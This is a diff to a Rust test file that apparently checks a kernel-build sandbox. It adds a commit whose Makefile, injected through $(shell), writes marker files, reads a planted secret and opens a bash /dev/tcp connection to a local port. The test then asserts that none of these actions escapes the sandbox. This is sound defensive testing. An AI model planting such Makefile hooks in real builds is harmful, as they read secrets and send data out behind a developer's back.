@@ -93,3 +93,64 @@ fn a_fragment_option_that_does_not_survive_is_named() {
     // Its own build directory: the shared x86_64 one is untouched.
     assert_ne!(build::build_dir(&t, x86, &opts), build::build_dir(&t, x86, &build::BuildOptions::default()));
 }
+
+/// A commit of the reference tree whose top Makefile does what a hostile series would:
+/// write outside the build, read a secret, call home; then stops the build.
+fn hostile_commit(t: &tree::TreeHandle, port: u16, secret_path: &str) -> String {
+    let repo = git2::Repository::open(&t.repo_path).unwrap();
+    let base =
+        repo.find_commit(git2::Oid::from_str(&reftree::provision(None).unwrap().commit).unwrap()).unwrap();
+    let tree = base.tree().unwrap();
+    let makefile = repo.find_blob(tree.get_path(std::path::Path::new("Makefile")).unwrap().id()).unwrap();
+    let evil = format!(
+        "MMEVAL_EVIL := $(shell touch /tmp/mmeval-evil-tmp $$HOME/mmeval-evil-home /root/mmeval-evil-root 2>&1; \
+         cat {secret_path} 2>&1; bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' 2>&1; echo done)\n\
+         $(warning sandbox probe: $(MMEVAL_EVIL))\n$(error the hostile patch stops the build here)\n"
+    );
+    let text = [evil.as_bytes(), makefile.content()].concat();
+    let blob = repo.blob(&text).unwrap();
+    let mut b = git2::build::TreeUpdateBuilder::new();
+    b.upsert("Makefile", blob, git2::FileMode::Blob);
+    let new_tree = repo.find_tree(b.create_updated(&repo, &tree).unwrap()).unwrap();
+    let sig = git2::Signature::new("Evil", "evil@example.org", &git2::Time::new(1_800_000_000, 0)).unwrap();
+    repo.commit(None, &sig, &sig, "evil: probe the build sandbox\n", &new_tree, &[&base]).unwrap().to_string()
+}
+
+#[test]
+fn a_series_cannot_reach_outside_its_build_sandbox() {
+    let t = reference();
+    let x86 = &arch::parse_list("x86_64").unwrap()[0];
+    let secret = format!("planted-secret-{}", std::process::id());
+    let secret_path = "/root/mmeval-planted-secret";
+    std::fs::write(secret_path, &secret).unwrap();
+    let markers = ["/tmp/mmeval-evil-tmp", "/root/mmeval-evil-home", "/root/mmeval-evil-root"];
+    for m in markers {
+        let _ = std::fs::remove_file(m);
+    }
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let commit = hostile_commit(&t, listener.local_addr().unwrap().port(), secret_path);
+    let outcome = build::build(&t, &commit, x86, &build::BuildOptions::default(), "hostile").unwrap();
+    let f = match outcome {
+        build::BuildOutcome::Failed(f) => f,
+        build::BuildOutcome::Built(a) => panic!("the hostile commit built: {}", a.image.display()),
+    };
+    assert!(f.sandboxed);
+    let log = std::fs::read_to_string(&f.log).unwrap();
+    // The Makefile's code did run (its warning is in the log) ...
+    assert!(
+        log.contains("sandbox probe:") && log.contains("the hostile patch stops the build here"),
+        "{log}"
+    );
+    // ... and reached nothing outside.
+    for m in markers {
+        assert!(!std::path::Path::new(m).exists(), "{m} was written from the sandbox");
+    }
+    assert!(!log.contains(&secret), "the planted secret reached the log");
+    assert!(!format!("{f}").contains(&secret));
+    assert!(
+        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
+        "the build connected to 127.0.0.1"
+    );
+    std::fs::remove_file(secret_path).unwrap();
+}
